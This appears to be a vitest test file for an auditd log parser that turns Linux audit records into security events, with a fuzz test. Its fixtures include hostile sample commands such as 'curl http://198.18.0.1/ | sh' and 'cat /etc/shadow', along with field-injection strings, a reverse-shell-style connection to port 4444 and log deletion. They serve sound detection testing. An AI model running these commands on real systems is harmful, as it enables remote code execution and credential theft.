import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { auditd } from './auditd.js'
import { decodeHex } from './audit-fields.js'
import { syscallName } from './audit-syscalls.js'
import { context, eventsOf, isSound, said } from './fixtures/said.js'

fc.configureGlobal({ seed: 20_261_122 })

const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase()
const record = (type: string, serial: number, rest: string, seconds = '1732273925.123'): string =>
  `type=${type} msg=audit(${seconds}:${serial}): ${rest}`

/** The records of one command, as Linux writes them. */
const command = (serial: number, args: readonly string[], uid = 0): string[] => [
  record(
    'SYSCALL',
    serial,
    `arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=58 items=2 ppid=100 pid=${serial} auid=1000 uid=${uid} gid=0 euid=0 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root" GID="root"`,
  ),
  record('EXECVE', serial, `argc=${args.length} ${args.map((arg, n) => `a${n}=${/[ "]/.test(arg) ? hex(arg) : `"${arg}"`}`).join(' ')}`),
  record('CWD', serial, 'cwd="/root"'),
  record('PATH', serial, 'item=0 name="/usr/bin/sh" inode=131 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
  record('PROCTITLE', serial, `proctitle=${hex(args.join('\0'))}`),
]

const one = (lines: readonly string[]): Record<string, unknown> => {
  const events = eventsOf(auditd, lines)
  expect(events).toHaveLength(1)
  return events[0] ?? {}
}

describe('a command', () => {
  it('is one event of all its records', () => {
    expect(one(command(7, ['sh', '-c', 'curl http://198.18.0.1/ | sh']))).toMatchObject({
      '@timestamp': 1_732_273_925_123,
      'event.category': 'process',
      'event.action': 'executed',
      'event.outcome': 'success',
      'event.dataset': 'auditd',
      'process.name': 'sh',
      'process.pid': 7,
      'process.parent.pid': 100,
      'process.executable': '/usr/bin/dash',
      'process.command_line': 'sh -c curl http://198.18.0.1/ | sh',
      'process.working_directory': '/root',
      'process.tty': 'pts0',
      'user.id': '0',
      'user.name': 'alice',
      'user.audit.id': '1000',
      'auditd.key': 'exec',
      'auditd.syscall': 'execve',
    })
  })

  it('is joined where records of several events are interleaved', () => {
    const [a, b, c] = [command(1, ['a']), command(2, ['b']), command(3, ['c'])]
    const mixed = a.flatMap((line, n) => [b[n] ?? '', line, c[n] ?? ''])
    const lines = eventsOf(auditd, mixed).map((event) => event['process.command_line'])
    expect(lines.toSorted((x, y) => String(x).localeCompare(String(y)))).toEqual(['a', 'b', 'c'])
  })

  it('is told without PROCTITLE when EOE comes, when it is old, and at the end', () => {
    const cut = command(1, ['a']).slice(0, 4)
    expect(eventsOf(auditd, [...cut, record('EOE', 1, '')])).toHaveLength(1)
    const opened = auditd.open?.()
    for (const line of cut) expect(opened?.parse(line, context)).toBeUndefined()
    expect(opened?.parse(record('SYSCALL', 2, 'arch=c000003e syscall=59', '1732273928.000'), context)?.['process.command_line']).toBe('a')
    expect(opened?.flush?.()?.['auditd.syscall']).toBe('execve')
    expect(opened?.flush?.()).toBeUndefined()
  })

  it('is read in parts when it is long, and with text that is no plain text', () => {
    const parts = record('EXECVE', 1, `argc=2 a0="x" a1_len=6 a1[0]=${hex('ab c')} a1[1]=${hex('de')}`)
    expect(one([parts])['process.command_line']).toBe('x ab cde')
    expect(one([record('EXECVE', 1, `argc=1 a0=${hex('a"b\nc')}`)])['process.command_line']).toBe('a"b\nc')
  })

  it('does not let one argument pass for other fields', () => {
    const evil = 'x" a1="y" exe="/bin/true" uid=0 res=success'
    expect(one([record('EXECVE', 1, `argc=2 a0="sh" a1=${hex(evil)}`)])['process.command_line']).toBe(`sh ${evil}`)
  })

  it('is read as often as it came, however many wait', () => {
    const heads = Array.from({ length: 500 }, (_, n) => command(n, [`c${n}`])[1] ?? '')
    expect(eventsOf(auditd, heads).map((event) => event['process.command_line'])).toEqual(heads.map((_, n) => `c${n}`))
  })
})

describe('records of programs', () => {
  it.each<[string, string, Record<string, unknown>]>([
    [
      'USER_LOGIN',
      `pid=9 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=198.18.0.1 terminal=sshd res=failed'`,
      { category: 'authentication', action: 'login', outcome: 'failure', ip: '198.18.0.1', user: 'root' },
    ],
    [
      'USER_LOGIN',
      `pid=9 uid=0 auid=1000 ses=1 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=198.18.0.1 addr=198.18.0.1 terminal=/dev/pts/0 res=success'\u001dUID="root" AUID="alice" ID="alice"`,
      { category: 'authentication', action: 'login', outcome: 'success', ip: '198.18.0.1', user: 'alice' },
    ],
    [
      'USER_AUTH',
      `pid=9 uid=1000 auid=1000 ses=1 msg='op=PAM:authentication grantors=? acct="root" exe="/usr/bin/su" hostname=web01 addr=? terminal=pts/0 res=failed'`,
      { category: 'authentication', action: 'login-step', outcome: 'failure', user: 'root' },
    ],
    [
      'USER_LOGIN',
      `pid=9 uid=0 auid=1 ses=1 msg='op=login acct=${hex('x" addr=203.0.113.9 res=success')} exe="/usr/sbin/sshd" hostname=? addr=198.18.0.1 terminal=sshd res=failed'`,
      { category: 'authentication', action: 'login', outcome: 'failure', ip: '198.18.0.1', user: 'x" addr=203.0.113.9 res=success' },
    ],
    [
      'ADD_USER',
      `pid=9 uid=0 auid=1000 ses=1 msg='op=add-user acct="bob" exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'\u001dUID="root" AUID="alice"`,
      { category: 'iam', action: 'account-changed', reason: 'user_created', outcome: 'success', user: 'alice', target: 'bob' },
    ],
    [
      'USER_MGMT',
      `pid=9 uid=0 auid=1000 ses=1 msg='op=add-user-to-group grp="docker" acct="bob" exe="/usr/sbin/usermod" res=success'`,
      { category: 'iam', action: 'account-changed', reason: 'user_changed', outcome: 'success', target: 'bob', group: 'docker' },
    ],
    [
      'USER_CHAUTHTOK',
      `pid=9 uid=0 auid=1000 ses=1 msg='op=PAM:chauthtok acct="root" exe="/usr/bin/passwd" res=success'`,
      { category: 'iam', action: 'account-changed', reason: 'password_changed', outcome: 'success', target: 'root' },
    ],
    [
      'USER_CMD',
      `pid=9 uid=1000 auid=1000 ses=1 msg='cwd="/" cmd=${hex('cat /etc/shadow')} exe="/usr/bin/sudo" terminal=pts/0 res=success'`,
      { category: 'process', action: 'executed', reason: 'sudo', outcome: 'success', command: 'cat /etc/shadow' },
    ],
    [
      'SERVICE_STOP',
      `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=fail2ban comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`,
      { category: 'process', action: 'service-stopped', outcome: 'success', service: 'fail2ban' },
    ],
    [
      'DAEMON_END',
      `op=terminate auid=0 uid=0 ses=1 pid=9 subj=unconfined res=success`,
      { category: 'process', action: 'service-stopped', outcome: 'success', service: 'auditd' },
    ],
    [
      'CONFIG_CHANGE',
      'op=set audit_enabled=0 old=1 auid=1000 ses=1 res=1',
      { category: 'configuration', action: 'config-changed', reason: 'audit_disabled', outcome: 'success' },
    ],
    [
      'CONFIG_CHANGE',
      'auid=1000 ses=1 op=remove_rule key="exec" list=4 res=1',
      { category: 'configuration', action: 'config-changed', reason: 'rule_removed', outcome: 'success' },
    ],
    ['ANOM_PROMISCUOUS', 'dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=1', { category: 'network', action: 'promiscuous-mode' }],
    ['SOMETHING_NEW', 'pid=1', { category: 'host', action: 'message' }],
  ])('%s %s', (type, rest, expected) => {
    expect(said(one([record(type, 5, rest)]) as never)).toEqual({ dataset: 'auditd', ...expected })
  })

  it('come at once, without waiting for another line', () => {
    expect(auditd.open?.().parse(record('USER_LOGIN', 1, "msg='op=login res=failed'"), context)).toBeDefined()
  })
})

describe('files, modules and connections', () => {
  const call = (number: number, args: string, ...rest: readonly string[]): Record<string, unknown> =>
    one([
      record('SYSCALL', 1, `arch=c000003e syscall=${number} success=yes ${args} pid=5 auid=0 uid=0 comm="x" exe="/x" key="watch"`),
      ...rest,
    ])
  const path = (name: string, kind: string): string =>
    record('PATH', 1, `item=1 name="${name}" inode=1 mode=0100644 ouid=0 ogid=0 nametype=${kind}`)

  it.each<[string, number, string, string[], Record<string, unknown>]>([
    [
      'a file made',
      257,
      'a0=ffffff9c a1=7f a2=241',
      [path('/etc/cron.d/', 'PARENT'), path('/etc/cron.d/x', 'CREATE')],
      { 'event.action': 'file-changed', 'event.reason': 'created', 'file.path': '/etc/cron.d/x' },
    ],
    [
      'a log deleted',
      263,
      'a0=ffffff9c a1=7f',
      [path('/var/log/', 'PARENT'), path('/var/log/auth.log', 'DELETE')],
      { 'event.action': 'log-cleared', 'event.reason': 'deleted' },
    ],
    [
      'a log emptied by a call',
      76,
      'a0=7f a1=0',
      [path('/var/log/auth.log', 'NORMAL')],
      { 'event.action': 'log-cleared', 'event.reason': 'truncated' },
    ],
    [
      'a log emptied as it is opened',
      257,
      'a0=ffffff9c a1=7f a2=241',
      [path('/var/log/auth.log', 'NORMAL')],
      { 'event.action': 'log-cleared', 'event.reason': 'truncated' },
    ],
    ['a log appended to', 257, 'a0=ffffff9c a1=7f a2=441', [path('/var/log/auth.log', 'NORMAL')], { 'event.action': 'file-changed' }],
    [
      'a log made anew',
      257,
      'a0=ffffff9c a1=7f a2=241',
      [path('/var/log/new.log', 'CREATE')],
      { 'event.action': 'file-changed', 'event.reason': 'created' },
    ],
    [
      'a log rotated away',
      82,
      'a0=7f a1=7e',
      [path('/var/log/auth.log', 'DELETE'), path('/var/log/auth.log.1', 'CREATE')],
      { 'event.action': 'file-changed' },
    ],
    [
      'a setuid bit',
      268,
      'a0=ffffff9c a1=7f a2=9ed',
      [path('/tmp/sh', 'NORMAL')],
      { 'event.action': 'file-changed', 'event.reason': 'setuid', 'file.path': '/tmp/sh' },
    ],
    ['a plain mode', 90, 'a0=7f a1=1ed', [path('/tmp/x', 'NORMAL')], { 'event.action': 'file-changed', 'event.reason': 'mode' }],
    ['a time of a file', 280, 'a0=ffffff9c', [path('/bin/ls', 'NORMAL')], { 'event.action': 'file-time-changed', 'file.path': '/bin/ls' }],
    ['the clock', 227, 'a0=0', [], { 'event.action': 'clock-changed', 'event.category': 'configuration' }],
    [
      'a kernel module',
      313,
      'a0=3',
      [record('KERN_MODULE', 1, 'name="rootkit"')],
      { 'event.action': 'kernel-module-loaded', 'event.reason': 'rootkit' },
    ],
    ['a module taken out', 176, 'a0=3', [], { 'event.action': 'kernel-module-removed' }],
    [
      'a connection',
      42,
      'a0=3',
      [record('SOCKADDR', 1, 'saddr=0200115CC61200010000000000000000')],
      { 'event.action': 'connected', 'destination.ip': '198.18.0.1', 'destination.port': 4_444 },
    ],
    [
      'a connection over IPv6',
      42,
      'a0=3',
      [record('SOCKADDR', 1, 'saddr=0A0001BB0000000020010DB800000000000000000000000100000000')],
      { 'event.action': 'connected', 'destination.ip': '2001:db8::1', 'destination.port': 443 },
    ],
    [
      'a connection of the machine itself',
      42,
      'a0=3',
      [record('SOCKADDR', 1, 'saddr=01002F72756E2F736F636B00')],
      { 'event.action': 'connected' },
    ],
  ])('%s', (_, number, args, rest, expected) => {
    expect(call(number, args, ...rest)).toMatchObject(expected)
  })

  it('are named by number for both common processors, and for no other', () => {
    expect([syscallName('c000003e', '59'), syscallName('c00000b7', '221'), syscallName('40000003', '11'), syscallName('', '59')]).toEqual([
      'execve',
      'execve',
      undefined,
      undefined,
    ])
  })
})

describe('lines', () => {
  it.each([
    '',
    'type=',
    'type=A',
    'type=A msg=audit(x:1): a=1',
    'type=A msg=audit(1:1)',
    'type=A msg=audit(-5.000:1): a',
    'type=A msg=audit(9e99:1): a',
    `type=${'A'.repeat(60)} msg=audit(1.0:1): x`,
  ])('%j is none', (line) => {
    expect([auditd.sniff(line), auditd.parse(line, context), auditd.open?.().parse(line, context)]).toEqual([false, undefined, undefined])
  })

  it('may name the host that sent them', () => {
    expect(one([`node=web01 ${record('USER_LOGIN', 1, "msg='res=failed'")}`])).toMatchObject({ 'host.name': 'web01' })
  })

  it('decodes hex only where it is hex', () => {
    expect(['6162', '6a', '616', 'xx', '', '4100'].map(decodeHex)).toEqual(['ab', 'j', undefined, undefined, undefined, 'A '])
  })

  it('of any kind are read without a fault, alone and joined, and every complete one is told once', () => {
    const piece = fc.constantFrom(
      'a0=',
      '"',
      "'",
      'msg=',
      'name=',
      'nametype=DELETE',
      ' ',
      '\u001d',
      'saddr=0200',
      '6162',
      '(null)',
      '=',
      'syscall=59',
      'arch=c000003e',
      'mode=',
      'cmd=',
      'acct=',
    )
    const line = fc.tuple(
      fc.constantFrom('SYSCALL', 'EXECVE', 'PATH', 'USER_CMD', 'SOCKADDR', 'PROCTITLE', 'EOE'),
      fc.integer({ min: 1, max: 5 }),
      fc.array(piece, { maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(line, { maxLength: 30 }), (records) => {
        const lines = records.map(([type, serial, parts]) => record(type, serial, parts.join('')))
        const events = eventsOf(auditd, lines)
        expect(events.length).toBeLessThanOrEqual(lines.length)
        for (const event of [...events, ...lines.map((text) => auditd.parse(text, context))]) expect(isSound(event)).toBe(true)
      }),
      { numRuns: 500 },
    )
  })
})
